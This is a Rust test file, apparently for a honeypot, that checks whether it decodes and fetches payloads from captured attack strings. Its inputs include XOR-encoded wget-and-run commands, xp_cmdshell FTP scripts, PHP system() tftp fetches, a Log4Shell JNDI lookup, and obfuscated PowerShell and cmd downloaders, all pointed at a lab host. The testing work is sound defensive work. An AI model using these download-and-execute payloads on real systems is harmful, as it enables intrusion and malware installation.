fn xor_encoded_commands_are_decoded_by_xmatch() {
    if !needs("xor_encoded_commands_are_decoded_by_xmatch") {
        return;
    }
    let x = sample(41, 4000);
    let patterns = TempDir::new("xmatch-patterns");
    let file = patterns.join("patterns.txt");
    std::fs::write(&file, "# known plaintext\n\\x68\\x74\\x74\\x70\\x3a\\x2f\\x2f\n").unwrap();
    let lab = Lab::start(&[("x.bin", &x)], &format!("plugin-xmatch = {{ xpattern_file = \"{}\" }}", file.display()));
    let key = [0x5a_u8, 0x13, 0xc7];
    let command = format!("cd /tmp; wget http://{CLI4}/x.bin -O .x; chmod +x .x; ./.x\n");
    let mut attack = vec![0x90u8; 17];
    attack.extend(command.bytes().enumerate().map(|(i, b)| b ^ key[i % 3]));
    lab.attack(attack);
    lab.expect_download(".x", &x);
    assert!(lab.log().contains("xmatch - Attack string is XOR-encoded with a 3-byte key"), "{}", lab.log());
}

/// A TDS SQL batch packet (header, ALL_HEADERS, the batch in UTF-16LE), as an MS-SQL client
/// sends it.
fn tds_batch(sql: &str) -> Vec<u8> {
    let mut p = vec![0x01, 0x01, 0, 0, 0, 0, 0x01, 0x00];
    p.extend_from_slice(&[22, 0, 0, 0, 18, 0, 0, 0, 2, 0, 0, 0, 0, 0, 0, 0, 0, 0, 1, 0, 0, 0]);
    p.extend_from_slice(&utf16(sql));
    let n = u16::try_from(p.len()).unwrap().to_be_bytes();
    p[2..4].copy_from_slice(&n);
    p
}

#[test]
fn commands_inside_string_literals_are_fetched() {
    if !needs("commands_inside_string_literals_are_fetched") {
        return;
    }
    let (a, b, c) = (sample(41, 4100), sample(42, 2300), sample(43, 3100));
    let lab = Lab::start(&[("l1.exe", &a), ("l2.bin", &b), ("l3.sh", &c)], "");
    // MS-SQL: an FTP script through xp_cmdshell, the quote glued to its first word.
    lab.attack(tds_batch(&format!(
        "EXEC master..xp_cmdshell 'echo open {CLI4} 21>f.txt&echo user foo bar>>f.txt&echo binary>>f.txt&echo get l1.exe>>f.txt&echo bye>>f.txt&ftp -n -s:f.txt'"
    )));
    lab.expect_download("l1.exe", &a);
    // A JSON body: the command with escaped quotes in a string value, through bash -c.
    lab.attack(
        format!(
            "POST /api HTTP/1.1\r\nContent-Type: application/json\r\n\r\n{{\"cmd\":\"bash -c \\\"curl -o \\\\\\\"/tmp/lit2\\\\\\\" http:\\/\\/{CLI4}\\/l2.bin\\\"\"}}"
        )
        .into_bytes(),
    );
    lab.expect_download("lit2", &b);
    // PHP system() with a TFTP fetch.
    lab.attack(format!("<?php system('cd /tmp; tftp -g -r l3.sh -l lit3 {CLI4}'); ?>\n").into_bytes());
    lab.expect_download("lit3", &c);
}

#[test]
fn jndi_lookup_commands_are_fetched_and_endpoints_only_logged() {
    if !needs("jndi_lookup_commands_are_fetched_and_endpoints_only_logged") {
        return;
    }
    let data = sample(44, 2600);
    let events = TempDir::new("jndi-events");
    let lab = Lab::start(
        &[("l4j.sh", &data)],
        &format!("plugin-logEvents = {{ logfile = \"{}\" }}", events.join("events.json").display()),
    );
    let cmd = format!("cd /tmp; wget http://{CLI4}/l4j.sh -O /tmp/log4; sh /tmp/log4");
    lab.attack(
        format!(
            "GET / HTTP/1.1\r\nHost: x\r\nX-Api-Version: ${{${{lower:j}}${{::-n}}di:ldap://{CLI4}:1389/Basic/Command/Base64/{}}}\r\n\r\n",
            b64(cmd.as_bytes())
        )
        .into_bytes(),
    );
    lab.expect_download("log4", &data);
    let log = lab.path("honeytrap.log");
    let line = format!("JNDI lookup - Attack string names ldap://{CLI4}:1389, not contacted.");
    assert!(wait_for_text(&log, &line, T), "{}", lab.log());
    assert!(!lab.log().contains(":1389 ") && !lab.log().contains(&format!("{CLI4}:1389.")), "{}", lab.log());
    // The endpoint is in the event stream as an indicator, once.
    let want = "\"eventid\":\"honeytrap.session.indicator\"";
    assert!(wait_for_text(&events.join("events.json"), want, T));
    let text = read(&events.join("events.json"));
    let lines: Vec<&str> = text.lines().filter(|l| l.contains(want)).collect();
    assert_eq!(lines.len(), 1, "{text}");
    assert!(lines[0].contains(&format!("\"kind\":\"jndi\",\"value\":\"ldap://{CLI4}:1389\"")), "{}", lines[0]);
}

#[test]
fn strings_built_at_run_time_are_fetched() {
    if !needs("strings_built_at_run_time_are_fetched") {
        return;
    }
    let (arm, mips, ps, ftp) = (sample(45, 1900), sample(46, 2100), sample(47, 2700), sample(48, 3300));
    let lab = Lab::start(&[("b.arm", &arm), ("b.mips", &mips), ("r.exe", &ps), ("f.exe", &ftp)], "");
    // Shell: a variable and a loop over a literal list.
    lab.attack(
        format!("cd /tmp; u=http://{CLI4}; for a in arm mips; do wget $u/b.$a -O /tmp/bot.$a; done\n").into_bytes(),
    );
    // PowerShell: variables, concatenation, -join.
    lab.attack(
        format!(
            "powershell -nop -c \"$h=('{}','{}') -join '.'; $u='ht'+'tp://'+$h+'/r.exe'; (New-Object Net.WebClient).DownloadFile($u,'C:\\Users\\Public\\r2.exe')\"\r\n",
            &CLI4[..5],
            &CLI4[6..]
        )
        .into_bytes(),
    );
    // cmd.exe: set and %h% in an FTP script, with caret escapes.
    lab.attack(
        format!("cmd /c set h={CLI4}&& e^cho open %h% 21>o&echo user foo bar>>o&echo binary>>o&echo get f.exe>>o&echo bye>>o&f^t^p -n -s:o\r\n")
            .into_bytes(),
    );
    lab.expect_download("bot.arm", &arm);
    lab.expect_download("bot.mips", &mips);
    lab.expect_download("r2.exe", &ps);
    lab.expect_download("f.exe", &ftp);
}
